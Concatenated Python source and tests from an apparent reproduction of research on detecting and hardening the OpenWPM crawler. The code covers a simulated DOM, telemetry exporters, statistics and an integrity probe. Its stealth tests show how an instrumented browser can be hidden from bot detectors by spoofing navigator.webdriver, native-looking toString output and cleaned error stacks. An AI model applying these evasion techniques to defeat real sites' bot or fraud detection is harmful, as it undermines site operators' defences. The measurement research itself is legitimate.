        get_fn = self._native(f"get {name}", getter)
        get_fn.masquerade_name = name
        set_fn = None
        if setter is not None:
            set_fn = self._native(f"set {name}", setter)
            set_fn.masquerade_name = name
        target.define_property(name, PropertyDescriptor.accessor(
            get=get_fn, set=set_fn, enumerable=enumerable))

    # ------------------------------------------------------------------
    def _install_event_target(self) -> None:
        proto = self.event_target

        def add_event_listener(interp, this, args):
            if len(args) < 2:
                # Real browsers throw here; errors raised beneath an
                # instrumentation wrapper expose its stack frames.
                _throw_type_error(
                    interp, "EventTarget.addEventListener: At least 2 "
                    "arguments required, but only "
                    f"{len(args)} passed")
            if hasattr(this, "add_listener"):
                event_type = interp.to_string(args[0]) if interp \
                    else str(args[0])
                this.add_listener(event_type, args[1])
            return UNDEFINED

        def remove_event_listener(interp, this, args):
            if len(args) >= 2 and hasattr(this, "remove_listener"):
                event_type = interp.to_string(args[0]) if interp \
                    else str(args[0])
                this.remove_listener(event_type, args[1])
            return UNDEFINED

        def dispatch_event(interp, this, args):
            event = args[0] if args else UNDEFINED
            if not isinstance(event, DOMEvent):
                _throw_type_error(interp,
                                  "dispatchEvent argument is not an Event")
            if hasattr(this, "host_dispatch"):
                return this.host_dispatch(event, interp)
            return False

        proto.put("addEventListener",
                  self._native("addEventListener", add_event_listener),
                  enumerable=False)
        proto.put("removeEventListener",
                  self._native("removeEventListener", remove_event_listener),
                  enumerable=False)
        proto.put("dispatchEvent",
                  self._native("dispatchEvent", dispatch_event),
                  enumerable=False)

    # ------------------------------------------------------------------
    def _install_node(self) -> None:
        proto = self.node

        def append_child(interp, this, args):
            child = args[0] if args else UNDEFINED
            if not isinstance(this, Element) and not isinstance(
                    this, Document):
                raise JSError.type_error("appendChild on non-node")
            if not isinstance(child, Element):
                raise JSError.type_error("appendChild argument is not a node")
            if isinstance(this, Document):
                return this.body.append_child(child, interp)
            return this.append_child(child, interp)

        def remove_child(interp, this, args):
            child = args[0] if args else UNDEFINED
            if isinstance(this, Element) and isinstance(child, Element):
                return this.remove_child(child)
            raise JSError.type_error("removeChild on non-node")

        def contains(interp, this, args):
            target = args[0] if args else UNDEFINED
            if isinstance(this, Element) and isinstance(target, Element):
                return any(descendant is target
                           for descendant in this.descendants())
            return False

        proto.put("appendChild", self._native("appendChild", append_child),
                  enumerable=False)
        proto.put("removeChild", self._native("removeChild", remove_child),
                  enumerable=False)
        proto.put("contains", self._native("contains", contains),
                  enumerable=False)

    # ------------------------------------------------------------------
    def _install_element(self) -> None:
        proto = self.element

        def set_attribute(interp, this, args):
            if isinstance(this, Element) and len(args) >= 2:
                name = interp.to_string(args[0]) if interp else str(args[0])
                value = interp.to_string(args[1]) if interp else str(args[1])
                this.set_attribute(name, value)
            return UNDEFINED

        def get_attribute(interp, this, args):
            if isinstance(this, Element) and args:
                name = interp.to_string(args[0]) if interp else str(args[0])
                value = this.get_attribute(name)
                return value if value is not None else NULL
            return NULL

        def remove(interp, this, args):
            if isinstance(this, Element):
                this.remove()
            return UNDEFINED

        proto.put("setAttribute", self._native("setAttribute", set_attribute),
                  enumerable=False)
        proto.put("getAttribute", self._native("getAttribute", get_attribute),
                  enumerable=False)
        proto.put("remove", self._native("remove", remove), enumerable=False)

        def element_getter(attr: str, default: Any = ""):
            def getter(interp, this, args):
                if isinstance(this, Element):
                    return this.attributes.get(attr, default)
                return default
            return getter

        def element_setter(attr: str):
            def setter(interp, this, args):
                if isinstance(this, Element) and args:
                    value = interp.to_string(args[0]) if interp \
                        else str(args[0])
                    this.attributes[attr] = value
                    window_host = this.owner_document.window_host \
                        if this.owner_document is not None else None
                    if attr == "src" and window_host is not None:
                        if isinstance(this, IFrameElement) \
                                and this.is_attached():
                            window_host.load_iframe(this, interp)
                        elif this.tag_name == "img":
                            # Image loads start on src assignment even
                            # before attachment (tracking-pixel pattern).
                            from repro.net.http import ResourceType
                            window_host.issue_request(
                                value, ResourceType.IMAGE)
            return setter

        self._accessor(self.html_element, "id", element_getter("id"),
                       element_setter("id"))
        self._accessor(self.html_element, "className",
                       element_getter("class"), element_setter("class"))
        self._accessor(self.html_element, "src", element_getter("src"),
                       element_setter("src"))
        self._accessor(self.html_element, "href", element_getter("href"),
                       element_setter("href"))
        self._accessor(self.html_element, "type", element_getter("type"),
                       element_setter("type"))

        def text_getter(interp, this, args):
            if isinstance(this, Element):
                return this.text_content
            return ""

        def text_setter(interp, this, args):
            if isinstance(this, Element) and args:
                this.text_content = interp.to_string(args[0]) if interp \
                    else str(args[0])

        self._accessor(self.html_element, "textContent", text_getter,
                       text_setter)
        self._accessor(self.html_element, "text", text_getter, text_setter)

        def inner_html_getter(interp, this, args):
            if isinstance(this, Element):
                return getattr(this, "_inner_html", "")
            return ""

        def inner_html_setter(interp, this, args):
            if not isinstance(this, Element) or not args:
                return
            html = interp.to_string(args[0]) if interp else str(args[0])
            this._inner_html = html
            from repro.dom.html import parse_html_fragment
            document = this.owner_document
            for parsed in parse_html_fragment(html):
                element = document.create_element(parsed.tag)
                element.attributes.update(parsed.attributes)
                element.text_content = parsed.text
                this.append_child(element, interp)

        self._accessor(self.html_element, "innerHTML", inner_html_getter,
                       inner_html_setter)

    # ------------------------------------------------------------------
    def _install_iframe(self) -> None:
        proto = self.per_tag["iframe"]

        def content_window(interp, this, args):
            if isinstance(this, IFrameElement) \
                    and this.content_window is not None:
                return this.content_window.window_object
            return NULL

        def content_document(interp, this, args):
            if isinstance(this, IFrameElement) \
                    and this.content_window is not None:
                return this.content_window.document
            return NULL

        self._accessor(proto, "contentWindow", content_window)
        self._accessor(proto, "contentDocument", content_document)

    # ------------------------------------------------------------------
    def _install_canvas(self) -> None:
        proto = self.per_tag["canvas"]

        def get_context(interp, this, args):
            kind = "2d"
            if args:
                kind = interp.to_string(args[0]) if interp else str(args[0])
            if isinstance(this, Element) and this.owner_document is not None \
                    and this.owner_document.window_host is not None:
                context = this.owner_document.window_host.get_canvas_context(
                    kind)
                return context if context is not None else NULL
            return NULL

        proto.put("getContext", self._native("getContext", get_context),
                  enumerable=False)

    # ------------------------------------------------------------------
    def _install_document(self) -> None:
        proto = self.document

        def expect_document(this) -> Document:
            if not isinstance(this, Document):
                raise JSError.type_error("document method on non-document")
            return this

        def create_element(interp, this, args):
            document = expect_document(this)
            tag = interp.to_string(args[0]) if interp and args \
                else str(args[0]) if args else "div"
            return document.create_element(tag)

        def get_element_by_id(interp, this, args):
            document = expect_document(this)
            element_id = interp.to_string(args[0]) if interp and args else ""
            found = document.get_element_by_id(element_id)
            return found if found is not None else NULL

        def query_selector(interp, this, args):
            document = expect_document(this)
            selector = interp.to_string(args[0]) if interp and args else ""
            found = document.query_selector(selector)
            return found if found is not None else NULL

        def query_selector_all(interp, this, args):
            document = expect_document(this)
            selector = interp.to_string(args[0]) if interp and args else ""
            return self.realm.new_array(
                list(document.query_selector_all(selector)))

        def write(interp, this, args):
            document = expect_document(this)
            html = interp.to_string(args[0]) if interp and args else ""
            if document.window_host is not None:
                document.window_host.handle_document_write(html, interp)
            else:
                document.write(html, interp)
            return UNDEFINED

        proto.put("createElement",
                  self._native("createElement", create_element),
                  enumerable=False)
        proto.put("getElementById",
                  self._native("getElementById", get_element_by_id),
                  enumerable=False)
        proto.put("querySelector",
                  self._native("querySelector", query_selector),
                  enumerable=False)
        proto.put("querySelectorAll",
                  self._native("querySelectorAll", query_selector_all),
                  enumerable=False)
        proto.put("write", self._native("write", write), enumerable=False)

        self._accessor(proto, "body",
                       lambda interp, this, args:
                       this.body if isinstance(this, Document) else NULL)
        self._accessor(proto, "head",
                       lambda interp, this, args:
                       this.head if isinstance(this, Document) else NULL)
        self._accessor(proto, "documentElement",
                       lambda interp, this, args:
                       this.document_element
                       if isinstance(this, Document) else NULL)
        self._accessor(proto, "readyState",
                       lambda interp, this, args:
                       this.ready_state if isinstance(this, Document)
                       else "loading")

        def cookie_getter(interp, this, args):
            if isinstance(this, Document):
                return this.cookie
            return ""

        def cookie_setter(interp, this, args):
            if isinstance(this, Document) and args:
                this.set_cookie(interp.to_string(args[0]) if interp
                                else str(args[0]))

        self._accessor(proto, "cookie", cookie_getter, cookie_setter)

    # ------------------------------------------------------------------
    def make_event_constructor(self) -> NativeFunction:
        """The ``CustomEvent`` / ``Event`` constructor for this realm."""

        def construct(interp, args):
            event_type = interp.to_string(args[0]) if interp and args \
                else str(args[0]) if args else ""
            detail: Any = UNDEFINED
            if len(args) > 1 and isinstance(args[1], JSObject):
                detail = args[1].get("detail", interp)
            return DOMEvent(event_type, detail, proto=self.event)

        constructor = NativeFunction(
            lambda interp, this, args: construct(interp, args),
            name="CustomEvent", proto=self.realm.function_prototype,
            constructor=construct)
        constructor.put("prototype", self.event, writable=False,
                        enumerable=False)
        return constructor

"""Exporters: telemetry snapshots as JSON and Prometheus text format.

Both operate on *snapshot dicts* (the output of
``MetricsRegistry.snapshot()`` / ``Telemetry.snapshot()``, which is also
the shape the ``telemetry`` SQLite table round-trips), so a live crawl
and a stored database export identically.
"""

from __future__ import annotations

import json
from typing import Any, Dict, Iterable, List

_PROM_PREFIX = "repro_"


def _prom_name(name: str) -> str:
    out = []
    for ch in name:
        out.append(ch if ch.isalnum() or ch == "_" else "_")
    return _PROM_PREFIX + "".join(out)


def _prom_labels(labels: Dict[str, str], extra: str = "") -> str:
    parts = [f'{key}="{value}"' for key, value in sorted(labels.items())]
    if extra:
        parts.append(extra)
    return "{" + ",".join(parts) + "}" if parts else ""


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


def metrics_to_prometheus(metrics: Iterable[Dict[str, Any]]) -> str:
    """Render metric snapshot dicts in Prometheus text exposition format."""
    lines: List[str] = []
    seen_types: Dict[str, str] = {}
    for metric in metrics:
        kind = metric["kind"]
        name = _prom_name(metric["name"])
        labels = {str(k): str(v)
                  for k, v in (metric.get("labels") or {}).items()}
        if name not in seen_types:
            seen_types[name] = kind
            lines.append(f"# TYPE {name} {kind}")
        if kind in ("counter", "gauge"):
            lines.append(
                f"{name}{_prom_labels(labels)} "
                f"{_format_value(metric['value'])}")
        elif kind == "histogram":
            bounds = list(metric["bounds"]) + [float("inf")]
            running = 0
            for bound, count in zip(bounds, metric["bucket_counts"]):
                running += count
                le = _prom_labels(labels,
                                  extra=f'le="{_format_value(bound)}"')
                lines.append(f"{name}_bucket{le} {running}")
            lines.append(f"{name}_sum{_prom_labels(labels)} "
                         f"{_format_value(metric['sum'])}")
            lines.append(f"{name}_count{_prom_labels(labels)} "
                         f"{metric['count']}")
    return "\n".join(lines) + ("\n" if lines else "")


def snapshot_to_json(snapshot: Dict[str, Any], indent: int = 2) -> str:
    """Serialise a full ``Telemetry.snapshot()`` (spans + metrics)."""
    return json.dumps(snapshot, indent=indent, sort_keys=True,
                      default=str)


def spans_to_tree_lines(spans: Iterable[Dict[str, Any]],
                        max_traces: int = 5) -> List[str]:
    """Render finished spans as indented per-trace trees (for reports)."""
    by_trace: Dict[str, List[Dict[str, Any]]] = {}
    for span in spans:
        by_trace.setdefault(span["trace_id"], []).append(span)
    lines: List[str] = []
    for trace_id in sorted(by_trace)[:max_traces]:
        members = by_trace[trace_id]
        children: Dict[Any, List[Dict[str, Any]]] = {}
        for span in members:
            children.setdefault(span.get("parent_id"), []).append(span)

        def walk(parent_id, depth: int) -> None:
            for span in sorted(children.get(parent_id, []),
                               key=lambda s: s["span_id"]):
                indent = "  " * depth
                lines.append(
                    f"{indent}{span['name']} "
                    f"[{span['duration']:.3f}s {span['status']}]")
                walk(span["span_id"], depth + 1)

        lines.append(f"{trace_id}:")
        walk(None, 1)
    return lines

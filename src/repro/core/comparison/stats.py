"""Statistical testing for the paired crawl (paper Sec. 6.3).

The paper's data is not normally distributed, so differences between
the WPM and WPM_hide clients are tested with the Wilcoxon signed-rank
test at a 95% confidence level.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Sequence

from scipy import stats


@dataclass
class WilcoxonResult:
    statistic: float
    p_value: float
    n: int
    n_nonzero: int

    @property
    def significant(self) -> bool:
        return self.p_value < 0.05


def paired_wilcoxon(a: Sequence[float],
                    b: Sequence[float]) -> WilcoxonResult:
    """Wilcoxon signed-rank test on paired per-site measurements.

    Ties (zero differences) are dropped, matching the default 'wilcox'
    treatment; with no non-zero differences the result is reported as
    not significant (p = 1).
    """
    if len(a) != len(b):
        raise ValueError("paired samples must have equal length")
    diffs = [x - y for x, y in zip(a, b)]
    nonzero = [d for d in diffs if d != 0]
    if not nonzero:
        return WilcoxonResult(statistic=0.0, p_value=1.0, n=len(a),
                              n_nonzero=0)
    statistic, p_value = stats.wilcoxon(a, b)
    return WilcoxonResult(statistic=float(statistic),
                          p_value=float(p_value), n=len(a),
                          n_nonzero=len(nonzero))

"""Tests for the WPM_hide hardening (paper Sec. 6.1/6.2)."""

import pytest

from repro.browser.profiles import openwpm_profile, stock_firefox_profile
from repro.core.fingerprint import (
    OpenWPMDetector,
    capture_template,
    diff_templates,
    run_probes,
)
from repro.core.hardening import (
    StealthJSInstrument,
    StealthSettings,
    sanitize_error_stack,
)
from repro.core.hardening.errors import stack_mentions_instrumentation
from repro.core.lab import make_window, visit_with_scripts
from repro.jsobject.errors import make_error_object, StackFrame
from repro.openwpm import BrowserParams, OpenWPMExtension


def stealth_window(**profile_kwargs):
    settings = StealthSettings.plausible()
    profile = openwpm_profile(
        "ubuntu", "regular",
        window_size=profile_kwargs.pop("window_size",
                                       settings.window_size),
        window_position=profile_kwargs.pop("window_position",
                                           settings.window_position))
    extension = OpenWPMExtension(BrowserParams(stealth=True),
                                 js_instrument=StealthJSInstrument())
    browser, window = make_window(profile, extension=extension)
    return extension, window


class TestFingerprintHiding:
    def test_detector_fooled(self):
        extension, window = stealth_window()
        report = OpenWPMDetector().test_window(window)
        assert not report.is_openwpm
        assert report.matched == []

    def test_webdriver_reads_false_but_access_recorded(self):
        extension, window = stealth_window()
        assert window.run_script("navigator.webdriver") is False
        assert any(r.symbol == "Navigator.webdriver"
                   for r in extension.js_instrument.records)

    def test_tostring_native_on_wrapped_method(self):
        extension, window = stealth_window()
        signature = window.run_script(
            "document.createElement('canvas').getContext('2d')"
            ".fillRect.toString()")
        assert signature == "function fillRect() {\n    [native code]\n}"

    def test_getter_descriptor_looks_native(self):
        extension, window = stealth_window()
        assert window.run_script("""
            Object.getOwnPropertyDescriptor(
                Object.getPrototypeOf(navigator), 'userAgent'
            ).get.toString().indexOf('[native code]') >= 0
        """) is True

    def test_no_dom_residue(self):
        extension, window = stealth_window()
        assert window.run_script("typeof window.getInstrumentJS") \
            == "undefined"
        assert window.run_script("typeof window.jsInstruments") \
            == "undefined"

    def test_no_prototype_pollution(self):
        extension, window = stealth_window()
        assert window.run_script(
            "Object.getPrototypeOf(screen)"
            ".hasOwnProperty('addEventListener')") is False

    def test_clean_stack_traces(self):
        extension, window = stealth_window()
        stack = window.run_script("""
            var s = "";
            try { screen.addEventListener(); } catch (e) { s = e.stack; }
            s
        """)
        assert "moz-extension" not in stack
        assert "openwpm" not in stack

    def test_surface_vs_stock_firefox_shows_no_tampering(self):
        _, stock = make_window(stock_firefox_profile("ubuntu"))
        extension, window = stealth_window()
        surface = diff_templates(capture_template(stock),
                                 capture_template(window))
        assert len(surface.tampered_functions()) == 0
        assert len(surface.added_custom_functions()) == 0
        assert not surface.webdriver_deviates()


class TestRecordingStillWorks:
    def test_api_accesses_recorded(self):
        extension, window = stealth_window()
        extension.js_instrument.clear_records()
        window.run_script("navigator.userAgent; screen.width;")
        symbols = {r.symbol for r in extension.js_instrument.records}
        assert "Navigator.userAgent" in symbols
        assert "Screen.width" in symbols

    def test_records_flow_to_storage(self):
        from repro.openwpm.storage import StorageController

        storage = StorageController()
        storage.begin_visit(0, "https://lab.test/")
        extension = OpenWPMExtension(
            BrowserParams(stealth=True),
            storage=storage,
            js_instrument=StealthJSInstrument(storage=storage))
        visit_with_scripts(openwpm_profile("ubuntu", "regular"),
                           ["navigator.userAgent;"], extension=extension)
        assert any(r["symbol"] == "Navigator.userAgent"
                   for r in storage.javascript_records())

    def test_csp_cannot_block_installation(self):
        extension = OpenWPMExtension(BrowserParams(stealth=True),
                                     js_instrument=StealthJSInstrument())
        _, result = visit_with_scripts(
            openwpm_profile("ubuntu", "regular"),
            ["navigator.platform;"],
            extension=extension,
            csp_header="script-src 'self' 'unsafe-inline'; report-uri /c")
        assert extension.js_instrument.failed_windows == []
        assert any(r.symbol == "Navigator.platform"
                   for r in extension.js_instrument.records)

    def test_frame_policy_is_immediate(self):
        assert StealthJSInstrument().frame_policy == "immediate"
        extension = OpenWPMExtension(BrowserParams(stealth=True),
                                     js_instrument=StealthJSInstrument())
        assert extension.frame_policy == "immediate"


class TestStealthSettings:
    def test_plausible_geometry_differs_from_defaults(self):
        settings = StealthSettings.plausible()
        assert settings.window_size != (1366, 683)

    def test_apply_to_browser_params(self):
        params = BrowserParams()
        StealthSettings.plausible().apply_to_browser_params(params)
        assert params.stealth is True
        assert params.save_content == "all"
        assert params.window_size == StealthSettings.plausible().window_size


class TestErrorSanitiser:
    def _error_with_stack(self, lines):
        frames = []
        for line in lines:
            name, _, rest = line.partition("@")
            url, line_no, col = rest.rsplit(":", 2)
            frames.append(StackFrame(name, url, int(line_no), int(col)))
        return make_error_object("TypeError", "x", frames)

    def test_strips_instrument_frames(self):
        error = self._error_with_stack([
            "wrapper@moz-extension://openwpm/content.js:3:1",
            "caller@https://site.test/app.js:10:5",
        ])
        sanitize_error_stack(error)
        stack = error.get("stack")
        assert "moz-extension" not in stack
        assert "app.js" in stack

    def test_repoints_filename_to_first_page_frame(self):
        error = self._error_with_stack([
            "wrapper@moz-extension://openwpm/content.js:3:1",
            "caller@https://site.test/app.js:10:5",
        ])
        sanitize_error_stack(error)
        assert error.get("fileName") == "https://site.test/app.js"
        assert error.get("lineNumber") == 10.0

    def test_non_object_throw_values_pass_through(self):
        assert sanitize_error_stack("just a string") == "just a string"

    def test_mentions_helper(self):
        assert stack_mentions_instrumentation(
            "f@moz-extension://openwpm/x.js:1:1")
        assert not stack_mentions_instrumentation("f@https://a.test/x:1:1")
        assert not stack_mentions_instrumentation(None)

"""Table 6: sites with scripts probing OpenWPM-specific properties."""

from conftest import BENCH_SITES, report

#: Paper: provider -> total sites per 100K.
PAPER_PER_100K = {
    "cheqzone.com": 331,
    "googlesyndication.com": 14,
    "google.com": 9,
    "adzouk1tag.com": 2,
}


def test_benchmark_table6(benchmark, bench_world, bench_scan):
    table6 = benchmark(bench_scan.table6)
    total_found = bench_scan.openwpm_probe_site_count()
    planted = len(bench_world.ground_truth.openwpm_probe_sites())

    lines = [f"(scale: {BENCH_SITES} sites; paper: 356 sites per 100K; "
             f"planted here: {planted}, observed: {total_found})", "",
             "| provider | sites | per-property accesses | "
             "paper (per 100K) |", "|---|---|---|---|"]
    for provider, expected in PAPER_PER_100K.items():
        stats = table6.get(provider, {"total": 0})
        props = {k: v for k, v in stats.items() if k != "total"}
        lines.append(f"| {provider} | {stats['total']} | {props} | "
                     f"{expected} |")
    report("table06_openwpm_probes",
           "Table 6 - OpenWPM-specific detector providers", lines)

    # Every planted probe site was observed (dynamic analysis catches
    # even the obfuscated/dynamically-loaded probes).
    assert total_found == planted
    if planted:
        # CHEQ dominates the provider mix, as in the paper.
        assert table6.get("cheqzone.com", {"total": 0})["total"] \
            >= max((s["total"] for p, s in table6.items()
                    if p != "cheqzone.com"), default=0)

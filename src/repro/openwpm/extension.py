"""The OpenWPM browser extension: instrument composition + lifecycle."""

from __future__ import annotations

from typing import Any, List, Optional

from repro.browser.extension import ExtensionContext, ExtensionHost
from repro.jsobject.objects import JSObject
from repro.obs.telemetry import NULL_TELEMETRY, Telemetry, coalesce
from repro.openwpm.config import BrowserParams
from repro.openwpm.instruments.cookie_instrument import CookieInstrument
from repro.openwpm.instruments.http_instrument import HTTPInstrument
from repro.openwpm.instruments.js_instrument import JSInstrument

#: Symbol exercised by the end-of-visit recording-integrity probe. Any
#: wrapped API works; ``navigator.userAgent`` is instrumented by both the
#: vanilla and the hardened instrument.
INTEGRITY_PROBE_SYMBOL = "navigator.userAgent"


class OpenWPMExtension(ExtensionHost):
    """Bundles the HTTP, cookie, and JavaScript instruments.

    ``frame_policy`` is ``"deferred"`` for the vanilla JS instrument
    (new frames/popups are instrumented from an event-loop task — the
    Listing-3 window) and ``"immediate"`` when a hardened instrument
    announces itself via ``frame_policy = "immediate"``.

    When constructed with an enabled :class:`Telemetry`, the extension
    additionally runs an end-of-visit *recording-integrity probe*: it
    reads one instrumented API through the page-visible wrapper path and
    checks that a record actually arrives at the instrument's background
    end. The Sec. 5 event-dispatcher hijack silences that channel, so
    the probe turns the paper's headline attack into a red
    ``recording_integrity`` gauge instead of silent data loss.
    """

    name = "openwpm"

    def __init__(self, params: Optional[BrowserParams] = None,
                 storage: Any = None,
                 js_instrument: Any = None,
                 telemetry: Optional[Telemetry] = None) -> None:
        self.params = params or BrowserParams()
        self.storage = storage
        self.telemetry = coalesce(telemetry)
        self.http_instrument: Optional[HTTPInstrument] = None
        self.cookie_instrument: Optional[CookieInstrument] = None
        self.js_instrument = js_instrument

        if self.params.http_instrument:
            self.http_instrument = HTTPInstrument(
                storage=storage, save_content=self.params.save_content,
                telemetry=self.telemetry)
        if self.params.cookie_instrument:
            self.cookie_instrument = CookieInstrument(
                storage=storage, telemetry=self.telemetry)
        if self.params.js_instrument and self.js_instrument is None:
            self.js_instrument = JSInstrument(storage=storage,
                                              telemetry=self.telemetry)
        elif self.js_instrument is not None:
            # Externally built instruments (stealth, custom factories)
            # join the same telemetry stream unless they brought their own.
            existing = getattr(self.js_instrument, "telemetry", None)
            if existing is None or not existing.enabled:
                self.js_instrument.telemetry = self.telemetry

        #: Windows instrumented during the current visit.
        self.instrumented_windows: List[Any] = []

    # ------------------------------------------------------------------
    @property
    def frame_policy(self) -> str:
        return getattr(self.js_instrument, "frame_policy", "deferred")

    # ------------------------------------------------------------------
    def on_visit_start(self, browser: Any, url: Any) -> None:
        self.instrumented_windows = []

    def on_window_created(self, window: Any) -> None:
        self._instrument(window)

    def on_frame_created(self, window: Any, parent: Any) -> None:
        self._instrument(window)

    def _instrument(self, window: Any) -> None:
        if self.js_instrument is None:
            return
        context = ExtensionContext(window)
        with self.telemetry.stage("instrument_window"):
            installed = self.js_instrument.instrument_window(window,
                                                             context)
        if installed:
            self.instrumented_windows.append(window)
        else:
            self.telemetry.metrics.counter("instrumentation_blocked").inc()

    def on_request(self, request: Any, response: Any) -> None:
        if self.http_instrument is not None:
            self.http_instrument.on_request(request, response)

    def on_cookie_change(self, cookie: Any, change: str) -> None:
        if self.cookie_instrument is not None:
            self.cookie_instrument.on_cookie_change(cookie, change)

    def on_visit_end(self, browser: Any) -> None:
        if self.telemetry.enabled:
            verdict = self.recording_integrity_probe()
            if verdict is not None:
                self.telemetry.metrics.gauge(
                    "recording_integrity").set(1.0 if verdict else 0.0)
                if not verdict:
                    self.telemetry.metrics.counter(
                        "integrity_probe_failures").inc()
        if self.storage is not None:
            commit = getattr(self.storage, "commit", None)
            if commit is not None:
                commit()
            else:
                self.storage.connection.commit()

    # ------------------------------------------------------------------
    # Recording integrity
    # ------------------------------------------------------------------
    def recording_integrity_probe(self) -> Optional[bool]:
        """Exercise the instrument's reporting channel end to end.

        Reads ``navigator.userAgent`` through the instrumented window —
        the access flows through the page-context wrapper and whatever
        ``document.dispatchEvent`` the page left behind — then checks a
        record arrived. Probe records are discarded afterwards and never
        reach storage, so crawl data is unaffected.

        Returns ``True``/``False``, or ``None`` when there is nothing to
        probe (no JS instrument, or no instrumented window this visit).
        """
        instrument = self.js_instrument
        if instrument is None or not self.instrumented_windows:
            return None
        records = getattr(instrument, "records", None)
        if records is None:
            return None
        window = self.instrumented_windows[0]
        before = len(records)
        # Probe records must pollute neither storage nor the metrics.
        saved_storage = getattr(instrument, "storage", None)
        saved_telemetry = getattr(instrument, "telemetry", None)
        instrument.storage = None
        if saved_telemetry is not None:
            instrument.telemetry = NULL_TELEMETRY
        try:
            navigator = window.window_object.get("navigator", window.interp)
            if not isinstance(navigator, JSObject):
                return None
            navigator.get("userAgent", window.interp)
        except Exception:
            pass
        finally:
            instrument.storage = saved_storage
            if saved_telemetry is not None:
                instrument.telemetry = saved_telemetry
        wanted = INTEGRITY_PROBE_SYMBOL.lower()
        arrived = any(
            record.symbol.lower() == wanted and record.operation == "get"
            for record in records[before:])
        del records[before:]
        return arrived

    # ------------------------------------------------------------------
    def clear_records(self) -> None:
        for instrument in (self.http_instrument, self.cookie_instrument,
                           self.js_instrument):
            if instrument is not None and hasattr(instrument,
                                                  "clear_records"):
                instrument.clear_records()

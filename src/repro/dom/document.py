"""The Document node."""

from __future__ import annotations

from typing import Any, Callable, List, Optional

from repro.dom.csp import ContentSecurityPolicy
from repro.dom.events import EventTargetMixin
from repro.dom.html import parse_html_fragment
from repro.dom.node import Element, make_element
from repro.jsobject.objects import JSObject
from repro.net.url import URL


class Document(JSObject, EventTargetMixin):
    """A DOM document with ``<html><head/><body/></html>`` skeleton.

    The document delegates side-effectful operations (script execution on
    attach, iframe loading, cookie access) to its owning window through
    the ``window_host`` reference set by the browser.
    """

    is_document = True

    def __init__(self, url: URL,
                 csp: Optional[ContentSecurityPolicy] = None,
                 proto: Optional[JSObject] = None,
                 element_proto_for: Optional[Callable[[str], JSObject]] = None,
                 ) -> None:
        JSObject.__init__(self, proto=proto, class_name="HTMLDocument")
        self._init_event_target()
        self.url = url
        self.csp = csp or ContentSecurityPolicy.none()
        self.ready_state = "loading"
        #: Set by the browser window that owns this document.
        self.window_host: Any = None
        self._element_proto_for = element_proto_for or (lambda tag: None)

        self.document_element = self.create_element("html")
        self.document_element.parent = self
        self.head = self.create_element("head")
        self.body = self.create_element("body")
        self.document_element.children = [self.head, self.body]
        self.head.parent = self.document_element
        self.body.parent = self.document_element
        self.children = [self.document_element]

        #: Everything written via document.write, for auditing.
        self.write_log: List[str] = []

    # ------------------------------------------------------------------
    def create_element(self, tag: str) -> Element:
        proto = self._element_proto_for(tag.lower())
        return make_element(tag, self, proto=proto)

    def notify_attached(self, element: Element, interp: Any = None) -> None:
        """Called whenever a subtree becomes live in this document."""
        if self.window_host is not None:
            self.window_host.handle_element_attached(element, interp)
        for descendant in element.descendants():
            if self.window_host is not None:
                self.window_host.handle_element_attached(descendant, interp)

    # ------------------------------------------------------------------
    def all_elements(self):
        yield self.document_element
        yield from self.document_element.descendants()

    def get_element_by_id(self, element_id: str) -> Optional[Element]:
        for element in self.all_elements():
            if element.element_id == element_id:
                return element
        return None

    def query_selector(self, selector: str) -> Optional[Element]:
        for element in self.all_elements():
            if element.matches_selector(selector):
                return element
        return None

    def query_selector_all(self, selector: str) -> List[Element]:
        return [element for element in self.all_elements()
                if element.matches_selector(selector)]

    # ------------------------------------------------------------------
    def write(self, html: str, interp: Any = None) -> None:
        """``document.write``: parse and attach markup to the body."""
        self.write_log.append(html)
        for parsed in parse_html_fragment(html):
            element = self.create_element(parsed.tag)
            element.attributes.update(parsed.attributes)
            element.text_content = parsed.text
            self.body.append_child(element, interp)

    # ------------------------------------------------------------------
    @property
    def cookie(self) -> str:
        if self.window_host is None:
            return ""
        return self.window_host.read_document_cookie()

    def set_cookie(self, text: str) -> None:
        if self.window_host is not None:
            self.window_host.write_document_cookie(text)

    def __repr__(self) -> str:
        return f"<Document {self.url}>"

"""DOM element classes.

Elements are JS-visible objects (subclasses of ``JSObject``); their
JS-facing methods and accessors live on shared per-document prototypes
built in :mod:`repro.dom.prototypes`, mirroring how real DOM interfaces
hang off prototype chains — which is what makes prototype-chain
instrumentation (and its pollution fingerprint, paper Fig. 2) meaningful.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.dom.events import EventTargetMixin
from repro.jsobject.objects import JSObject

_TAG_CLASS_NAMES = {
    "script": "HTMLScriptElement",
    "iframe": "HTMLIFrameElement",
    "img": "HTMLImageElement",
    "canvas": "HTMLCanvasElement",
    "div": "HTMLDivElement",
    "span": "HTMLSpanElement",
    "a": "HTMLAnchorElement",
    "link": "HTMLLinkElement",
    "p": "HTMLParagraphElement",
    "form": "HTMLFormElement",
    "input": "HTMLInputElement",
    "button": "HTMLButtonElement",
    "html": "HTMLHtmlElement",
    "head": "HTMLHeadElement",
    "body": "HTMLBodyElement",
}


def class_name_for_tag(tag: str) -> str:
    return _TAG_CLASS_NAMES.get(tag.lower(), "HTMLElement")


class Element(JSObject, EventTargetMixin):
    """A generic DOM element."""

    def __init__(self, tag_name: str, document: Any,
                 proto: Optional[JSObject] = None) -> None:
        JSObject.__init__(self, proto=proto,
                          class_name=class_name_for_tag(tag_name))
        self._init_event_target()
        self.tag_name = tag_name.lower()
        self.attributes: Dict[str, str] = {}
        self.children: List[Element] = []
        self.parent: Optional[Any] = None
        self.owner_document = document
        self.text_content = ""

    # ------------------------------------------------------------------
    # Tree structure
    # ------------------------------------------------------------------
    def append_child(self, child: "Element", interp: Any = None) -> "Element":
        """Attach *child*; notifies the owning document when live."""
        if child.parent is not None:
            child.parent.children.remove(child)
        child.parent = self
        self.children.append(child)
        if self.is_attached() and self.owner_document is not None:
            self.owner_document.notify_attached(child, interp)
        return child

    def remove_child(self, child: "Element") -> "Element":
        if child in self.children:
            self.children.remove(child)
            child.parent = None
        return child

    def remove(self) -> None:
        if self.parent is not None:
            self.parent.remove_child(self)

    def is_attached(self) -> bool:
        """True when the element's ancestor chain reaches a document."""
        node: Any = self
        while node is not None:
            if getattr(node, "is_document", False):
                return True
            node = getattr(node, "parent", None)
        return False

    def descendants(self):
        """Yield all descendants in document order."""
        for child in self.children:
            yield child
            yield from child.descendants()

    # ------------------------------------------------------------------
